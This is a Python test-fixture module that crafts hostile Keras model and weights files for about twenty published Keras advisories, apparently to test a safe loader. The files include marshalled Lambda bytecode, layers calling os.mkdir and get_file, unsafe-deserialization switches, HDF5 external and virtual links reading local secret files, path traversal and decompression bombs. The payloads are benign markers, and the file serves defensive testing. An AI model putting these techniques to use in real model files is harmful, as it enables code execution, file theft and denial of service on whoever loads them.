"""Model and weights files as an attacker would make them: one or more for each published advisory on Keras.

Whatever a file has executed makes the folder `exploited` in the current folder; what a file has read is the text or the
numbers of `secret.txt` and `secret.h5` there.
"""

import base64
import io
import marshal
import zipfile
from pathlib import Path
from typing import NamedTuple

import h5py
import numpy as np
from small_files import dense_config, functional, hdf5, keras_file, part

SECRET = 1234.5  # what the arrays of the secret file hold
TRACE = "exploited"
BOMB = (2**14, 2**14)  # 1 GiB of float32


class Hostile(NamedTuple):
    """A crafted file.

    Attributes:
        advisory: What it is published as, or the change to Keras that closed it.
        what: What the file does.
        name: Its name.
        content: Function that returns its bytes; called in the folder where it will lie, after `lay_secrets`.
    """

    advisory: str
    what: str
    name: str
    content: object


def lay_secrets():
    """Write the files that hostile ones are after into the current folder."""
    Path("secret.txt").write_text("first\nsecond\n")
    Path("secret.bin").write_bytes(np.full((4, 3), SECRET, "<f4").tobytes())
    with h5py.File("secret.h5", "w") as file:
        file["0"] = np.full((4, 3), SECRET, "float32")
        file["vars/0"] = np.full((4, 3), SECRET, "float32")
        file["vars/1"] = np.full(3, SECRET, "float32")


def _call(module, function, *args, **kwargs):
    """Return a layer that is no layer: a function, and what to call it with when the graph is rebuilt."""
    node = {"args": list(args), "kwargs": kwargs}
    return {"module": module, "class_name": "function", "config": function, "registered_name": "function",
            "name": function, "inbound_nodes": [node]}  # fmt: skip


def _bytecode():
    code = (lambda x: __import__("os").mkdir("exploited") or x).__code__
    return base64.b64encode(marshal.dumps(code)).decode()


def _lambda(**settings):
    function = {"class_name": "__lambda__", "config": {"value": _bytecode(), "defaults": None, "closure": None}}
    return part("Lambda", inputs=["image"], function=function, **settings)


def _unlocked():
    unlock = _call("keras.config", "enable_unsafe_deserialization")
    return functional(unlock, _lambda(), output="lambda")


def _with_arrays(change):
    """Return the bytes of an HDF5 file of a dense layer, after `change` of the group of its arrays."""
    stream = io.BytesIO(hdf5())
    with h5py.File(stream, "r+") as file:
        change(file["layers/dense"])
    return stream.getvalue()


def _external(layer):
    del layer["vars/0"]
    layer["vars"].create_dataset("0", (4, 3), "float32", external=[(str(Path("secret.bin").resolve()), 0, 48)])


def _external_link(layer):
    del layer["vars"]
    layer["vars"] = h5py.ExternalLink(str(Path("secret.h5").resolve()), "/vars")


def _soft_link(layer):
    layer.move("vars", "elsewhere")
    layer["vars"] = h5py.SoftLink("/layers/dense/elsewhere")


def _virtual(layer):
    del layer["vars/0"]
    layout = h5py.VirtualLayout((4, 3), "float32")
    layout[:] = h5py.VirtualSource(str(Path("secret.h5").resolve()), "0", (4, 3))
    layer["vars"].create_virtual_dataset("0", layout)


def _shape_bomb(layer):
    del layer["vars/0"]
    layer["vars"].create_dataset("0", BOMB, "float32", chunks=(2**11, 2**11), compression="gzip")


def _legacy_lambda():
    import json

    stream = io.BytesIO(hdf5(legacy=True))
    model = {"class_name": "Sequential", "config": {"name": "s", "layers": [
        {"class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "image"}},
        {"class_name": "Lambda", "config": {"name": "lambda", "function": [_bytecode(), None, None],
                                            "function_type": "lambda", "arguments": {}}},
    ]}}  # fmt: skip
    with h5py.File(stream, "r+") as file:
        file.attrs["model_config"] = json.dumps(model)
        file.attrs["keras_version"] = "2.15.0"
        file.move("dense", "model_weights/dense")
        file["model_weights"].attrs["layer_names"] = file.attrs.pop("layer_names")
    return stream.getvalue()


def _archive(config, **settings):
    return lambda: keras_file(config=config() if callable(config) else config, **settings)


def _weights(change):
    return lambda: keras_file(weights=_with_arrays(change))


HOSTILE = (
    Hostile("CVE-2024-3660", "a Lambda layer with bytecode", "lambda.keras", _archive(lambda: functional(_lambda()))),
    Hostile("CVE-2025-1550", "a layer that is a function of another module, os.mkdir", "function.keras",
            _archive(lambda: functional(_call("os", "mkdir", TRACE)))),
    Hostile("CVE-2025-8747", "a layer that is keras.utils.get_file, to fetch a file", "get_file.keras",
            _archive(lambda: functional(_call("keras.utils", "get_file", cache_dir=".", fname=TRACE, cache_subdir="",
                                              origin=Path("secret.txt").resolve().as_uri())))),
    Hostile("CVE-2025-9905", "a legacy .h5 model with a Lambda layer with bytecode", "legacy.h5", _legacy_lambda),
    Hostile("CVE-2025-9906", "a call that switches safe mode off, then a Lambda layer", "unlock.keras",
            _archive(_unlocked)),
    Hostile("CVE-2025-12058", "a StringLookup whose vocabulary is a file of the reader's", "lookup.keras",
            _archive(lambda: functional(part("StringLookup", inputs=["image"], name="lookup", num_oov_indices=1,
                                             vocabulary=str(Path("secret.txt").resolve()))))),
    Hostile("CVE-2025-49655", "a TorchModuleWrapper with a pickled module", "torch.keras",
            _archive(lambda: functional(part("TorchModuleWrapper", inputs=["image"], name="torch",
                                             module={"class_name": "__bytes__", "config": {"value": "gASV"}})))),
    Hostile("CVE-2026-0897", "an array that declares 1 GiB and stores nothing", "shape_bomb.keras",
            _weights(_shape_bomb)),
    Hostile("CVE-2026-1462", "a TFSMLayer with the path of a SavedModel", "tfsm.keras",
            _archive(lambda: functional(part("TFSMLayer", inputs=["image"], name="tfsm", filepath="saved_model",
                                             call_endpoint="serve")))),
    Hostile("CVE-2026-1669", "an array stored in a file of the reader's", "external.keras", _weights(_external)),
    Hostile("CVE-2026-1669", "the same file's arrays as weights", "external.weights.h5",
            lambda: _with_arrays(_external)),
    Hostile("CVE-2026-12479", "a layer whose name leads out of the folder", "traversal.keras",
            _archive(lambda: functional(part("Dense", inputs=["image"], name="../../exploited", units=3)))),
    Hostile("CVE-2026-12481", "a Lambda layer with safe mode left undecided", "undecided.keras",
            _archive(lambda: functional(_lambda(safe_mode=None)))),
    Hostile("keras#22899", "a group that is an external link", "external_link.keras", _weights(_external_link)),
    Hostile("keras#22900", "the same group in a weights file", "external_link.weights.h5",
            lambda: _with_arrays(_external_link)),
    Hostile("keras#22899", "a group that is a soft link", "soft_link.keras", _weights(_soft_link)),
    Hostile("keras#22976", "a virtual dataset over a file of the reader's", "virtual.keras", _weights(_virtual)),
    Hostile("keras#23010", "an archive whose packed arrays are 64 MB of zeros", "zip_bomb.keras",
            lambda: keras_file(weights=bytes(2**26), compression=zipfile.ZIP_DEFLATED)),
    Hostile("(none)", "a dense layer of a billion units, without arrays for them", "huge_layer.keras",
            _archive(lambda: dense_config(units=10**9))),
    Hostile("(none)", "a configuration of 100,000 nested lists", "nested.keras", _archive(b"[" * 100_000)),
)  # fmt: skip

# Advisories that no file of a model can carry.
ELSEWHERE = {
    "CVE-2024-55459": "unpacks a downloaded tar with keras.utils.get_file: tlkit never calls it",
    "CVE-2025-12060": "unpacks a downloaded tar with keras.utils.get_file: tlkit never calls it",
    "CVE-2025-12638": "unpacks a downloaded tar with keras.utils.get_file: tlkit never calls it",
    "GHSA-hqp4-2352-xf5r": "unpacks a downloaded archive with keras.utils.get_file: tlkit never calls it",
}
# No description was to be had when this was written.
UNKNOWN = ("CVE-2026-12480",)
